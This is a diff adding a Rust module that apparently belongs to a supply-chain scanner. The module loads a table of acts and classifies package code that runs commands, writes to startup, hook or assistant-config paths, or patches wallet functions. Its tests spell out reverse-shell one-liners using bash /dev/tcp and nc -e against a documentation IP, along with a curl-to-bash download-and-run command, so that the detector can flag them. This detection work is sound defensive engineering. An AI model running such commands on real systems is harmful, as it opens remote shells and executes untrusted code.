@@ -1,0 +1,323 @@
+//! `acts.toml`: what code does on the machine where it runs, beside sending.
+//!
+//! A field that is not listed here is an error when the table is loaded.
+
+use aho_corasick::AhoCorasick;
+use serde::Deserialize;
+
+use super::{
+    NotRead,
+    pattern::{Matches, PathPattern, RootKey},
+    sources::{PathRule, add, parts_of},
+};
+
+/// The table of acts, compiled for matching.
+#[derive(Debug)]
+pub(crate) struct ActTable {
+    deeds: Vec<Deed>,
+    runner_rows: Vec<Runner>,
+    /// Calls that run a text as code, by row.
+    pub(crate) runners: Matches<usize>,
+    writer_rows: Vec<Writer>,
+    /// Calls that write files, by row.
+    pub(crate) writers: Matches<usize>,
+    places: Vec<(PathRule, String)>,
+    /// Pieces of the paths of places, and which of them each place has; and names of calls that write.
+    place_words: AhoCorasick,
+    place_needs: Vec<Vec<usize>>,
+    writer_words: AhoCorasick,
+    /// What hides a path: with it, a file that writes may write anywhere.
+    decoders: AhoCorasick,
+    /// Functions of the platform that nobody else replaces, by class.
+    pub(crate) patches: Matches<usize>,
+    patch_classes: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Written {
+    #[expect(dead_code, reason = "there is one version of the schema")]
+    schema_version: NotRead,
+    deed: Vec<Deed>,
+    runner: Vec<Runner>,
+    needs: Needs,
+    writer: Vec<Writer>,
+    place: Vec<Place>,
+    patch: Vec<PatchRow>,
+}
+
+/// A command that says something by itself.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Deed {
+    class: String,
+    #[serde(default)]
+    programs: Vec<String>,
+    #[serde(default)]
+    words: Vec<String>,
+    #[serde(default)]
+    flags: Vec<String>,
+    /// Whether it is given neither a file nor code.
+    #[serde(default)]
+    bare: bool,
+    #[serde(default)]
+    text: Vec<String>,
+    #[serde(default)]
+    any_text: Vec<String>,
+    #[serde(default)]
+    before: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Needs {
+    decoders: Vec<String>,
+}
+
+/// A call that runs a text as code.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub(crate) struct Runner {
+    #[serde(default)]
+    globals: Vec<String>,
+    #[serde(default)]
+    modules: Vec<String>,
+    #[serde(default)]
+    code: usize,
+    /// Whether the code is the last argument, whichever that is.
+    #[serde(default)]
+    last: bool,
+    /// The option, in the argument behind the code, without which it is no code.
+    pub(crate) option: Option<String>,
+}
+
+/// A call that writes a file.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub(crate) struct Writer {
+    #[serde(default)]
+    globals: Vec<String>,
+    #[serde(default)]
+    modules: Vec<String>,
+    /// The argument that is its path.
+    pub(crate) path: usize,
+    /// The argument that is written.
+    pub(crate) content: usize,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Place {
+    class: String,
+    paths: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PatchRow {
+    class: String,
+    #[serde(default)]
+    globals: Vec<String>,
+    #[serde(default)]
+    modules: Vec<String>,
+}
+
+/// Letters from which on the name of a call that writes says so: `cp` and `move` are parts of many words.
+const TELLING_NAME: usize = 7;
+
+/// The class of a file of another package.
+pub(crate) const OTHER_PACKAGE: &str = "other-package";
+
+/// Options behind which code or a module stands.
+const TAKING_CODE: [&str; 8] = ["-c", "-e", "-m", "-p", "-n", "-ne", "--eval", "--print"];
+
+/// The class of functions of wallets.
+const WALLET: &str = "wallet";
+
+/// Where packages are installed.
+const INSTALLED: &str = "node_modules";
+
+impl Runner {
+    /// The argument that is the code, of so many.
+    pub(crate) fn code_of(&self, arguments: usize) -> Option<usize> {
+        if self.last { arguments.checked_sub(1) } else { Some(self.code).filter(|code| *code < arguments) }
+    }
+}
+
+impl ActTable {
+    pub(crate) fn parse(text: &str) -> Self {
+        let written: Written = super::read(text, "acts.toml");
+        let (mut runners, mut writers, mut patches) = (Matches::new(), Matches::new(), Matches::new());
+        for (index, runner) in written.runner.iter().enumerate() {
+            add(&mut runners, &runner.globals, &runner.modules, index);
+        }
+        for (index, writer) in written.writer.iter().enumerate() {
+            add(&mut writers, &writer.globals, &writer.modules, index);
+        }
+        for (index, patch) in written.patch.iter().enumerate() {
+            add(&mut patches, &patch.globals, &patch.modules, index);
+        }
+        let place = |place: &Place| {
+            let class = place.class.clone();
+            place.paths.iter().map(move |path| (PathRule::parse(path), class.clone())).collect::<Vec<_>>()
+        };
+        let last_name = |(_, pattern, _): (&RootKey, &PathPattern, &usize)| pattern.last_name().map(str::to_owned);
+        let mut writer_words: Vec<String> =
+            writers.rows().filter_map(last_name).filter(|name| name.len() >= TELLING_NAME).collect();
+        writer_words.sort();
+        writer_words.dedup();
+        let places: Vec<(PathRule, String)> = written.place.iter().flat_map(place).collect();
+        let of_places = places.iter().map(|(rule, _)| rule.telling_parts());
+        let needs: Vec<Vec<String>> = of_places.chain([vec![INSTALLED.to_owned()]]).collect();
+        let mut place_words: Vec<String> = needs.iter().flatten().cloned().collect();
+        place_words.sort();
+        place_words.dedup();
+        let number = |word: &String| place_words.binary_search(word).unwrap_or_default();
+        let place_needs = needs.iter().map(|words| words.iter().map(number).collect()).collect();
+        let automaton = |words: &[String]| AhoCorasick::new(words).expect("a few words make a small automaton");
+        Self {
+            deeds: written.deed,
+            runner_rows: written.runner,
+            runners,
+            writer_rows: written.writer,
+            place_words: automaton(&place_words),
+            place_needs,
+            decoders: automaton(&written.needs.decoders),
+            writer_words: automaton(&writer_words),
+            writers,
+            places,
+            patches,
+            patch_classes: written.patch.into_iter().map(|patch| patch.class).collect(),
+        }
+    }
+
+    pub(crate) fn runner(&self, row: usize) -> &Runner {
+        &self.runner_rows[row]
+    }
+
+    pub(crate) fn writer(&self, row: usize) -> &Writer {
+        &self.writer_rows[row]
+    }
+
+    pub(crate) fn patch_class(&self, row: usize) -> &str {
+        &self.patch_classes[row]
+    }
+
+    /// Names of wallets whose functions somebody may replace, each with the name of such a function.
+    pub(crate) fn wallet_names(&self) -> Vec<(String, String)> {
+        let wallets = self.patches.rows().filter(|(_, _, row)| self.patch_classes[**row] == WALLET);
+        let names = wallets.filter_map(|(root, pattern, _)| {
+            let method = pattern.last_name()?;
+            let names: Vec<&str> = pattern.names().collect();
+            let wallet = if names.len() > 1 { names[0] } else { root.name().as_str() };
+            (wallet != "window").then(|| (wallet.to_owned(), method.to_owned()))
+        });
+        let mut names: Vec<_> = names.collect();
+        names.sort();
+        names.dedup();
+        names
+    }
+
+    /// Whether a text has a name of a call that writes and a piece of a path at which that matters.
+    pub(crate) fn may_write(&self, text: &str) -> bool {
+        if !self.writer_words.is_match(text) {
+            return false;
+        }
+        let mut found = vec![false; self.place_words.patterns_len()];
+        self.place_words.find_overlapping_iter(text).for_each(|word| found[word.pattern().as_usize()] = true);
+        self.place_needs.iter().any(|words| words.iter().all(|word| found[*word])) || self.decoders.is_match(text)
+    }
+
+    /// What a command is, by its program, its words, its text, and the programs before it in a pipe.
+    pub(crate) fn classes_of(&self, program: &str, words: &[String], text: &str, before: &[&str]) -> Vec<String> {
+        let text = text.to_ascii_lowercase();
+        let is_bare = || words.iter().all(|word| word.starts_with('-') && !TAKING_CODE.contains(&word.as_str()));
+        let holds = |deed: &&Deed| {
+            let has_word = |word: &String| words.contains(word);
+            (deed.programs.is_empty() || deed.programs.iter().any(|name| name == program))
+                && deed.words.iter().all(has_word)
+                && (deed.flags.is_empty() || deed.flags.iter().any(has_word))
+                && (!deed.bare || is_bare())
+                && deed.text.iter().all(|piece| text.contains(piece.as_str()))
+                && (deed.any_text.is_empty() || deed.any_text.iter().any(|piece| text.contains(piece.as_str())))
+                && (deed.before.is_empty() || deed.before.iter().any(|name| before.contains(&name.as_str())))
+        };
+        let mut classes: Vec<String> = self.deeds.iter().filter(holds).map(|deed| deed.class.clone()).collect();
+        classes.sort();
+        classes.dedup();
+        classes
+    }
+
+    /// What a place is at which a file is written.
+    pub(crate) fn class_of_path(&self, path: &str) -> Option<&str> {
+        let (parts, is_absolute) = parts_of(path);
+        if is_absolute
+            && parts.first().is_some_and(|part| part == "package")
+            && !parts.iter().any(|part| part == INSTALLED)
+        {
+            return None;
+        }
+        if let Some(at) = parts.iter().rposition(|part| part == INSTALLED) {
+            // What begins with a dot belongs to tools, which keep their own there.
+            let is_file = parts.len() > at + 2 && !parts[at + 1].starts_with('.');
+            return is_file.then_some(OTHER_PACKAGE);
+        }
+        self.places.iter().find(|(rule, _)| rule.matches(&parts, is_absolute)).map(|(_, class)| class.as_str())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use molehunt_model::ActKind;
+
+    use crate::Tables;
+
+    #[test]
+    fn every_class_is_a_word_that_rules_know() {
+        let table = &Tables::embedded().acts;
+        let knows = |kind: ActKind, class: &str| assert!(kind.classes().contains(&class), "{class}");
+        table.deeds.iter().for_each(|deed| knows(ActKind::RunCommand, &deed.class));
+        table.places.iter().for_each(|(_, class)| knows(ActKind::WriteFile, class));
+        table.patch_classes.iter().for_each(|class| knows(ActKind::PatchApi, class));
+    }
+
+    #[test]
+    fn places_are_told_by_their_ends() {
+        let table = &Tables::embedded().acts;
+        for (path, class) in [
+            ("~/.bashrc", Some("shell-profile")),
+            ("~/Library/LaunchAgents/a.plist", Some("startup")),
+            ("{}/.git/hooks/pre-commit", Some("git-hook")),
+            ("./.github/workflows/ci.yml", Some("workflow")),
+            ("{}/node_modules/express/index.js", Some("other-package")),
+            ("{}/node_modules/.cache/a.js", None),
+            ("{}/node_modules/{}", None),
+            ("~/.claude/settings.json", Some("assistant")),
+            ("/package/CLAUDE.md", None),
+            ("dist/index.js", None),
+        ] {
+            assert_eq!(table.class_of_path(path), class, "{path}");
+        }
+    }
+
+    #[test]
+    fn commands_are_told_by_what_they_are_made_of() {
+        let table = &Tables::embedded().acts;
+        let classes = |program: &str, text: &str, before: &[&str]| {
+            let words: Vec<String> = text.split(' ').map(str::to_owned).collect();
+            table.classes_of(program, &words, text, before)
+        };
+        assert_eq!(classes("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", &[]), ["reverse-shell"]);
+        assert_eq!(classes("nc", "nc -e /bin/sh 198.51.100.7 443", &[]), ["reverse-shell"]);
+        assert_eq!(classes("sh", "sh", &["curl"]), ["download-and-run"]);
+        assert_eq!(classes("python3", "python3 -", &["curl"]), ["download-and-run"]);
+        assert_eq!(classes("python3", "python3 -m json.tool", &["curl"]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c 'cat < /dev/null > /dev/tcp/localhost/5432'", &[]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c 'VERSION=$(curl -s https://versions.example/) make'", &[]), [""; 0]);
+        assert_eq!(classes("bash", "bash -c \"$(curl -fsSL https://get.example/a.sh)\"", &[]), ["download-and-run"]);
+        assert_eq!(classes("crontab", "crontab -l", &[]), [""; 0]);
+        assert_eq!(classes("npm", "npm publish --access public", &[]), ["publish"]);
+        assert_eq!(classes("npm", "npm run build", &[]), [""; 0]);
+        assert_eq!(classes("git", "git pull", &[]), [""; 0]);
+    }
+}
